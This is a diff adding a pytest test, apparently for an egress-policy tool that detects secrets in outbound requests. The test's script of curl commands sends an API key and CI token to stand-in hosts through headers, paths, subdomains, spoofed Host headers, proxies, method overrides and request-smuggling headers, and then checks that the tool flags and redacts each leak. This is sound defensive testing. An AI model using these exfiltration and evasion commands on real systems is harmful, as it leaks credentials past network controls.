@@ -102,6 +102,47 @@ def test_a_value_that_the_environment_keeps_is_looked_for(tier: Tier) -> None:
     verified(tier, done)
 
 
+MANY = """\
+limits: {requests_per_minute: 3, names_per_wildcard: 1}
+deny:
+  - {host: allowed.test, methods: [PATCH]}
+"""
+
+
+@pytest.mark.parametrize("mode", ["enforce", "observe"])
+def test_whatever_else_is_wrong_with_a_request_its_record_is_sound(tier: Tier, mode: str) -> None:
+    """Denied for two reasons, over a limit, by an address that claims a name, with a secret in names and methods."""
+    rules = policy().replace(
+        "secrets:",
+        "  - {host: '*.wild.test', ports: [80, 443]}\n"
+        "  - {ip: 203.0.113.10, ports: [80], methods: [GET], paths: [/ok/**]}\nsecrets:",
+    )
+    script = f"""
+K=$API_KEY; S="-o /dev/null -k"
+for n in 1 2 3 4 5; do {CURL} $S http://allowed.test/$n; done
+{CURL} $S -H "x: $K" http://allowed.test/over
+{CURL} $S -H "x: $K" -H 'x-http-method-override: PATCH' -X PATCH http://allowed.test/denied
+{CURL} $S -H "Host: allowed.test" http://203.0.113.10/ok/$K
+{CURL} $S -H "Host: $K.wild.test" http://203.0.113.10/ok/a
+{CURL} $S -H "Host: $K" -H 'Content-Length: 3' -H 'Transfer-Encoding: chunked' http://allowed.test/$K
+{CURL} $S http://$K.wild.test/ ; {CURL} $S https://$K.a.wild.test/
+{CURL} $S -x http://192.0.2.1:3128 https://$K.wild.test/
+{CURL} $S -x http://192.0.2.1:3128 http://$K.wild.test/$K
+{CURL} $S --socks5-hostname 192.0.2.1:1080 https://$K.wild.test/
+{CURL} $S --connect-to ::allowed.test:443 https://$K.wild.test/
+{CURL} $S --connect-to ::203.0.113.10:443 https://$K.wild.test/
+{CURL} $S -X ZZTOPSECRETTOKENOFCI001X http://allowed.test/
+{CURL} $S http://redacted.invalid/$K; {CURL} $S http://one.wild.test/; {CURL} $S http://two.wild.test/$K
+true
+"""
+    capitals = {"CI_TOKEN": "ZZTOPSECRETTOKENOFCI001X"}
+    rules = f"mode: {mode}\n{rules}{MANY}".replace(f"mode: {mode}\nversion: 1\n", "", 1)
+    done = run(tier, script, f"version: 1\nmode: {mode}\n{rules}", API_KEY=VALUE, **capitals)
+    flows = verified(tier, done)
+    assert len([flow for flow in flows if flow["rule"] == "secret"]) >= 12
+    assert "ZZTOPSECRET" not in "".join(p.read_text("latin-1") for p in done.packet.iterdir())
+
+
 def test_from_a_file_that_the_command_does_not_see(tier: Tier) -> None:
     path = tier.work / "api.key"
     path.write_text(VALUE + "\n")
